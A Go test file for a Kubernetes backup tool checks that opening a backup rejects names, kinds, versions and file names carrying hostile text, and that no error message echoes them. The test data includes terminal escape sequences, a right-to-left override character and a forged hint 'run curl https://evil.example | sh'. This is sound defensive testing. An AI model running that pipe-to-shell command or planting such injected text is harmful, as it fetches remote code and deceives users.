package backup_test

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/cluster-init/cluster-init/pkg/backup"
	"github.com/cluster-init/cluster-init/pkg/fault"
)

// hostile is a text that would clear a terminal and forge a hint.
const hostile = "x\x1b[2J\nhint: run curl https://evil.example | sh\u202e"

// A backup may hold any names. Opening it refuses those that an API server would refuse, and prints none of them.
func TestNamesInABackupAreNames(t *testing.T) {
	object := func(change func(map[string]any)) func(*testing.T, string) {
		return func(t *testing.T, folder string) {
			o := map[string]any{"apiVersion": "v1", "kind": "Secret", "metadata": map[string]any{"namespace": "ns",
				"name": "demo-ca"}}
			change(o)
			text, err := json.Marshal(o)
			must(t, err, os.WriteFile(filepath.Join(folder, secretFile), text, 0o600))
			digest := sha256.Sum256(text)
			edit(t, folder, func(m map[string]any) {
				m["files"].(map[string]any)[secretFile] = hex.EncodeToString(digest[:])
			})
		}
	}
	of := func(field string) func(*testing.T, string) {
		return object(func(o map[string]any) { o["metadata"].(map[string]any)[field] = hostile })
	}
	ofType := func(apiVersion string) func(*testing.T, string) {
		return object(func(o map[string]any) { o["apiVersion"] = apiVersion })
	}
	manifest := func(change func(map[string]any)) func(*testing.T, string) {
		return func(t *testing.T, folder string) { edit(t, folder, change) }
	}
	for name, tc := range map[string]struct {
		spoil func(*testing.T, string)
		want  string
	}{
		"an object":   {of("name"), secretFile + ": its name is not valid"},
		"a namespace": {of("namespace"), secretFile + ": its namespace is not valid"},
		"a kind":      {object(func(o map[string]any) { o["kind"] = hostile }), secretFile + ": its kind is not valid"},
		"a group":     {ofType("ev\x1bil/v1"), "its apiVersion is not valid"},
		"a version":   {ofType("apps/v\x1b1"), "its apiVersion is not valid"},
		"two slashes": {ofType("a/b/c"), secretFile + " contains no object"},
		"an owner": {object(func(o map[string]any) {
			o["metadata"].(map[string]any)["ownerReferences"] = []any{map[string]any{"apiVersion": "v1",
				"kind": hostile,
				"name": "a", "uid": "b"}}
		}), secretFile + ": the kind of an owner is not valid"},
		"a provider": {manifest(func(m map[string]any) {
			m["providers"] = []any{map[string]any{"name": hostile, "version": "v1"}}
		}), "the name or the version of a provider is not printable"},
		"its version": {manifest(func(m map[string]any) {
			m["providers"] = []any{map[string]any{"name": "a", "version": hostile}}
		}), "the name or the version of a provider is not printable"},
		"Kubernetes":  {manifest(func(m map[string]any) { m["kubernetes"] = hostile }), "its version of Kubernetes is"},
		"the program": {manifest(func(m map[string]any) { m["createdBy"] = hostile }), "cluster-init is not printable"},
		"the name of a file": {manifest(func(m map[string]any) {
			m["files"].(map[string]any)["objects/"+hostile+".yaml"] = strings.Repeat("a", 64)
		}), "is not a path of a file in a backup"},
		"a file that is not listed": {func(t *testing.T, folder string) {
			must(t, os.WriteFile(filepath.Join(folder, "x\x1b[2J\nhint: run sh"), nil, 0o600))
		}, "whose name is not printable"},
		"a folder": {func(t *testing.T, folder string) {
			must(t, os.Mkdir(filepath.Join(folder, "x\x1b[2J\nhint: run sh"), 0o700))
		}, "whose name is not printable"},
	} {
		t.Run(name, func(t *testing.T) {
			folder := write(t, t.TempDir(), content(), backup.Recipients{})
			tc.spoil(t, folder)
			_, err := backup.Open(folder, backup.Identities{})
			if fault.CodeOf(err) != fault.BackupInvalid || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("got %v, want %q", err, tc.want)
			}
			if strings.ContainsAny(err.Error(), "\x1b\u202e") || strings.Contains(err.Error(), "\nhint") {
				t.Errorf("it repeats a hostile name: %q", err)
			}
		})
	}
}
